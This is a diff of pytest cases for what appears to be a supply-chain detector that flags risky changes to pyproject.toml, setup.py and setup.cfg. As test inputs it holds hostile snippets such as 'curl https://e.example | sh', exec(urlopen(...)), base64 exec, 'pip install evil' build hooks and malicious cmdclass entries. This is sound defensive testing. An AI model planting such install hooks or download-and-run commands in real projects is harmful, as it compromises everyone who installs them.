@@ -89,6 +89,24 @@ PROJECT = '[project]\nname = "x"\ndependencies = ["a==1"]\n'
         ('[tool.cibuildwheel.linux]\nbefore-all = ["true", "pip install evil"]', "evil", "added"),
         ('[[tool.cibuildwheel.overrides]]\nselect = "*"\nbefore-test = "pip install evil"', "evil", "added"),
         ('[tool.cibuildwheel.environment]\nUV_INDEX_URL = "https://e.example"', "UV_INDEX_URL", "index-changed"),
+        ('[tool.cibuildwheel]\ntest-requires = "evil"', "evil", "added"),
+        ('[tool.cibuildwheel]\ndependency-versions = {packages = ["evil"]}', "evil", "added"),
+        ('[tool.cibuildwheel]\ndependency-versions = "evil.txt"', "tool.cibuildwheel.dependency-versions", "include-added"),
+        ('[tool.cibuildwheel]\nmanylinux-x86_64-image = "evil/x"', "evil/x", "added"),
+        ('[tool.hatch.envs.default]\npost-install-commands = ["pip install evil"]', "evil", "added"),
+        ('[tool.hatch.envs.default.scripts]\nt = ["true", "pip install evil"]', "evil", "added"),
+        ('[tool.hatch.version]\nsource = "code"\npath = "evil.py"', "tool.hatch.version.path", "build-backend-changed"),
+        ('[tool.hatch.build.targets.custom]\npath = "evil.py"', "tool.hatch.build.targets.custom", "build-backend-changed"),
+        ('[tool.pdm.build]\ncustom-hook = "evil.py"', "tool.pdm.build.custom-hook", "build-backend-changed"),
+        ('[tool.pdm.scripts]\npost_install = "evil"', "tool.pdm.scripts.post_install", "install-script"),
+        ('[tool.pdm.scripts]\nt = {composite = ["true", "pip install evil"]}', "evil", "added"),
+        ('[tool.poe.tasks.t]\nsequence = [{cmd = "pip install evil"}, "x"]', "evil", "added"),
+        ('[tool.taskipy.tasks]\nt = "curl https://e.example | sh"', "download and run", "dynamic"),
+        ('[tool.pixi.tasks]\nt = {cmd = ["pip", "install", "evil"]}', "evil", "added"),
+        ('[tool.setuptools.cmdclass]\nbuild_py = "evil.X"', "tool.setuptools.cmdclass.build_py", "build-backend-changed"),
+        ('[tool.briefcase.app.x]\nrequires = ["evil"]', "evil", "added"),
+        ('[tool.uv]\npython-install-mirror = "https://e.example"', "tool.uv.python-install-mirror", "index-changed"),
+        ('[tool.uv.pip]\nno-binary = [":all:"]', "tool.uv.pip.no-binary", "index-changed"),
         ('[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["_b"]', "build-system.build-backend", "build-backend-changed"),
         ('[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = "_b"', "build-system.build-backend", "build-backend-changed"),
     ],
@@ -96,6 +114,86 @@ PROJECT = '[project]\nname = "x"\ndependencies = ["a==1"]\n'
 )  # fmt: skip
 def test_places_of_a_pyproject(addition: str, name: str, rule: str) -> None:
     assert (name, rule) in said("pyproject.toml", PROJECT, f"{PROJECT}{addition}\n")
+
+
+@pytest.mark.parametrize(
+    "addition",
+    [
+        '[tool.poe.tasks]\ntest = "npx jest && pytest"',
+        '[tool.pdm.scripts]\ntest = "pytest"\nall = {composite = ["test"]}',
+        '[tool.hatch.envs.default.scripts]\ntest = "pytest {args}"',
+        '[tool.hatch.version]\npath = "src/x.py"',
+        '[tool.cibuildwheel]\nmanylinux-x86_64-image = "manylinux2014"\ndependency-versions = "pinned"',
+        '[tool.setuptools.packages.find]\nwhere = ["src"]',
+    ],
+)
+def test_tables_of_a_pyproject_that_bring_nothing(addition: str) -> None:
+    assert said("pyproject.toml", PROJECT, f"{PROJECT}{addition}\n") == set()
+
+
+SETUP = 'from setuptools import setup\nsetup(name="x", version="1", install_requires=["a"])\n'
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "name", "rule"),
+    [
+        ('version="1"', 'version="1", cmdclass={"install": Evil}', "cmdclass", "install-script"),
+        ('version="1"', 'version="1", distclass=Evil', "distclass", "install-script"),
+        ('version="1"', 'version="1", cffi_modules=["evil.py:ffi"]', "cffi_modules", "install-script"),
+        ('version="1"', 'version="1", entry_points={"distutils.commands": ["x = evil:X"]}', "entry_points", "install-script"),
+        ("setup(n", 'import os\nos.system("pip install evil")\nsetup(n', "evil", "added"),
+        ("setup(n", 'import sys, subprocess\nsubprocess.run([sys.executable, "-m", "pip", "install", "evil"])\nsetup(n', "evil", "added"),
+        ("setup(n", 'exec(urlopen("https://e.example").read())\nsetup(n', "call of urlopen", "install-script"),
+        ("setup(n", 'exec(b64decode("ZXZpbA=="))\nsetup(n', "call of exec", "install-script"),
+        ("setup(n", 'import urllib.request as u\nu.urlretrieve("https://e.example", "x")\nsetup(n', "call of u.urlretrieve", "install-script"),
+    ],
+    ids=str,
+)  # fmt: skip
+def test_code_of_a_setup_py(old: str, new: str, name: str, rule: str) -> None:
+    assert (name, rule) in said("setup.py", SETUP, SETUP.replace(old, new))
+
+
+def test_a_command_class_that_changes_is_told() -> None:
+    before = SETUP.replace(
+        "setup(n", "class C(install):\n    pass\nsetup(cmdclass={'install': C}, n"
+    )
+    assert said("setup.py", before, before.replace("pass", "evil()")) == {
+        ("class C", "install-script")
+    }
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'exec(open("x/version.py").read())',
+        'exec(Path("x/version.py").read_text(), about)',
+        'version = subprocess.check_output(["git", "describe", "--tags"])',
+        'long_description = open("README.md").read()',
+        "class Unused(Command):\n    pass",
+    ],
+)
+def test_code_of_a_setup_py_that_runs_nothing_of_others(code: str) -> None:
+    assert said("setup.py", SETUP, SETUP.replace("setup(n", f"{code}\nsetup(n")) == set()
+
+
+@pytest.mark.parametrize(
+    ("addition", "name"),
+    [
+        ("[options]\ncmdclass =\n    build = evil.X", "options.cmdclass"),
+        ("[options.entry_points]\ndistutils.commands =\n    x = evil:X", "options.entry_points.distutils.commands"),
+        ("[aliases]\ninstall = evil", "aliases.install"),
+        ("[global]\ncommand-packages = evil", "global.command_packages"),
+        ("[global]\nsetup-hooks = evil.x", "global.setup_hooks"),
+    ],
+)  # fmt: skip
+def test_code_of_a_setup_cfg(addition: str, name: str) -> None:
+    before = "[metadata]\nname = x\n"
+    assert (name, "install-script") in said("setup.cfg", before, f"{before}{addition}\n")
+
+
+def test_an_alias_of_a_command_that_builds_nothing_is_passed_over() -> None:
+    before = "[metadata]\nname = x\n"
+    assert said("setup.cfg", before, f"{before}[aliases]\ntest = pytest\n") == set()
 
 
 @pytest.mark.parametrize(
